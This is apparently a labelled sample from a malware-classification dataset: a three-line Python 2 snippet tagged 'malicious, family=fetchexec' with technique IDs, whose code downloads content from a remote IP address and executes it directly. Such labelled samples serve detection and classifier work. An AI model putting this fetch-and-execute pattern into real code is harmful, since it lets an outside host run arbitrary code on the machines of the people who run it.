# label: malicious family=fetchexec techniques=T1059.006,T1105,T1620 lines=3
import urllib2
exec urllib2.urlopen("http://198.51.100.77/p").read()
